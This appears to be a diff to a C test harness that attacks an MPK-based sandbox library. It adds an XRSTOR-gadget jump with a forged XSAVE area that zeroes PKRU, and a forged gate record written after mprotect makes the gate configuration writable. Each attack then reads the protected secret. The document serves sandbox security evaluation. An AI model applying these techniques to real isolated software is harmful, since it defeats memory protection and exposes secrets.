@@ -107,6 +107,39 @@ static intptr_t a2_jump(void *a)
 	return 0;
 }
 
+/* The dynamic loader's XRSTOR gadget ("xrstor 0x40(%rsp)", then registers
+ * from the stack, "mov %rbx,%rsp; mov (%rsp),%rbx; add $0x18,%rsp;
+ * jmp *%r11"): entered with eax = 0x200 (PKRU only) and an XSAVE area whose
+ * PKRU is 0, it would open every key and come back to label 1. */
+uintptr_t a2_saved_rsp;
+static uint8_t a2_area[8192] __attribute__((aligned(64)));
+static uint64_t a2_rbx_stack[8];
+
+static intptr_t a2_xrstor(void *a)
+{
+	(void)a;
+	uint8_t *xs = a2_area + 4096;             /* 64-aligned XSAVE area */
+	uint64_t bv = 1ULL << 9;                   /* XSTATE_BV: PKRU */
+	memset(a2_area, 0, sizeof(a2_area));
+	memcpy(xs + 512, &bv, 8);
+	memset(xs + 2688, 0, 8);                   /* PKRU = 0: every key open */
+	a2_rbx_stack[0] = 0;
+	__asm__ volatile("movq %%rsp, a2_saved_rsp(%%rip)\n\t"
+			 "leaq 1f(%%rip), %%r11\n\t"
+			 "movq %1, %%rbx\n\t"
+			 "movq %2, %%rsp\n\t"
+			 "movl $0x200, %%eax\n\t"
+			 "xorl %%edx, %%edx\n\t"
+			 "jmp *%0\n"
+			 "1:\n\t"
+			 "movq a2_saved_rsp(%%rip), %%rsp\n\t"
+			 :
+			 : "r"(cx->aux[0]), "r"(a2_rbx_stack), "r"(xs - 0x40)
+			 : "rax", "rbx", "rcx", "rdx", "rsi", "rdi", "r8", "r9", "r10", "r11", "memory");
+	grab(cx->secret, SECRET_LEN);
+	return 0;
+}
+
 /* ---------------------------------------------------------------- A3 */
 
 static intptr_t a3_pkey_mprotect(void *a)
@@ -360,12 +393,40 @@ static intptr_t a10_seccomp(void *a)
 
 /* ---------------------------------------------------------------- A11 */
 
+/* runs with whatever PKRU a forged gate record gives */
+static intptr_t a11_payload(void *a)
+{
+	(void)a;
+	grab(cx->secret, SECRET_LEN);
+	return 7;
+}
+
 static intptr_t a11_state(void *a)
 {
 	(void)a;
-	/* the gate's configuration is read-only and sealed; the library's
-	 * state (frames, saved host registers) is host-keyed */
+	/* 1. the saved host state: library memory, host-keyed */
+	/* 2. the gate configuration: make it writable, point the gate records at
+	 *    our memory, forge a record for PKRU 0 and enter the gate with it */
+	volatile uint64_t *gc = (volatile uint64_t *)cx->aux[0];
 	cx->rc[0] = syscall(SYS_mprotect, cx->aux[0], 4096, PROT_READ | PROT_WRITE);
+	uint64_t stacks_lo = gc[0], shift = gc[3];
+	uintptr_t sp = (uintptr_t)__builtin_frame_address(0);
+	uintptr_t top = (sp | ((1UL << shift) - 1)) + 1;
+	uint64_t idx = ((top - stacks_lo) >> shift) - 1;
+	static uint64_t fake[8] __attribute__((aligned(64)));
+	fake[0] = 0x786f62656b70ULL; /* magic */
+	fake[1] = 0;                 /* PKRU: every key open */
+	fake[2] = 1;                 /* KIND_CALL */
+	fake[3] = (uintptr_t)a11_payload;
+	gc[6] = (uintptr_t)fake - idx * 64; /* records_lo: faults unless mprotect worked */
+	__asm__ volatile("movq %0, %%r14\n\t"
+			 "xorl %%eax, %%eax\n\t"
+			 "xorl %%ecx, %%ecx\n\t"
+			 "xorl %%edx, %%edx\n\t"
+			 "call *%1\n\t"
+			 :
+			 : "r"(top), "r"(cx->aux[2])
+			 : "rax", "rcx", "rdx", "rsi", "rdi", "r8", "r9", "r10", "r11", "r14", "memory");
 	volatile uint64_t *state = (volatile uint64_t *)cx->aux[1];
 	state[1] = 0x4141414141414141ULL;
 	return 0;
@@ -487,7 +548,7 @@ static const struct attack attacks[] = {
 	{ "a2-gate", "A2", a2_jump, 0, "jump to the gate's entry WRPKRU with PKRU 0" },
 	{ "a2-die", "A2", a2_jump, 0, "jump to the gate's third WRPKRU with PKRU 0" },
 	{ "a2-libc", "A2", a2_jump, 0, "jump to glibc's pkey_set WRPKRU" },
-	{ "a2-ldso", "A2", a2_jump, 0, "jump to the dynamic loader's XRSTOR" },
+	{ "a2-ldso", "A2", a2_xrstor, 0, "the dynamic loader's XRSTOR with a forged XSAVE area (PKRU 0)" },
 	{ "a3-pkey-mprotect", "A3", a3_pkey_mprotect, 0, "re-key the secret's page" },
 	{ "a3-mprotect", "A3", a3_mprotect, 0, "mprotect the secret's page" },
 	{ "a3-pkeys", "A3", a3_pkey_realloc, 0, "free and allocate keys" },
@@ -682,6 +743,7 @@ int main(int argc, char **argv)
 	} else if (!strcmp(at->name, "a11-state")) {
 		cx->aux[0] = 0x500002008000UL; /* the gate configuration (public layout) */
 		cx->aux[1] = 0x500000000000UL; /* the library's state */
+		cx->aux[2] = find_nth_wrpkru("libpkeysbox", 0); /* the gate's entry */
 	}
 	if (at->name[1] == '2' && !cx->aux[0]) {
 		printf("%s (%s): the target instruction is not in this process; nothing to attack here\n", at->name, be);
